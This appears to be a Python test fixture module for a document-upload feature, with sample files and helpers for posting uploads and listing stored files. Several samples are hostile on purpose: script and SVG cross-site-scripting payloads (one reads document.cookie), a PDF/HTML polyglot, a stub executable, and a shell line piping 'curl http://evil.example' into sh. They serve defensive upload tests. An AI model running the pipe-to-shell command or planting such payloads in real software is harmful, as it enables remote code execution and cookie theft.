"""Sample files and upload helpers shared by the document tests."""
import io
import os
import zipfile

from tests.conftest import csrf_token

PDF = b"%PDF-1.4\n1 0 obj<< /Type /Catalog >>endobj\ntrailer<< /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'
SCRIPT = b"#!/bin/sh\ncurl http://evil.example | sh\n"
POLYGLOT = b"%PDF-1.4\n%<html><body><script>alert(1)</script></body></html>\n1 0 obj<<>>endobj\n%%EOF\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64 + b"PE\x00\x00"
CSV = b"date,amount\n2026-01-31,120.50\n"


def docx_bytes():
    """A minimal Word document (a ZIP with word/document.xml)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


def upload(client, entity_id, name, content, folder_id="", accept="text/html", visibility="staff_only"):
    """POST one file to the entity's browser upload route, as the signed-in user."""
    token = csrf_token(client, f"/documents/entity/{entity_id}")
    return client.post(
        f"/documents/entity/{entity_id}/upload",
        data={"csrf_token": token, "folder_id": str(folder_id), "visibility": visibility,
              "direction": "from_firm", "files": (io.BytesIO(content), name)},
        content_type="multipart/form-data", headers={"Accept": accept},
    )


def stored_files(root):
    """Every file under the storage directory (blobs and temp files)."""
    found = []
    for folder, _, files in os.walk(root):
        found += [os.path.join(folder, f) for f in files]
    return sorted(found)


class Upload:
    """A minimal FileStorage stand-in for the services."""

    def __init__(self, name, content):
        self.filename, self.stream = name, io.BytesIO(content)
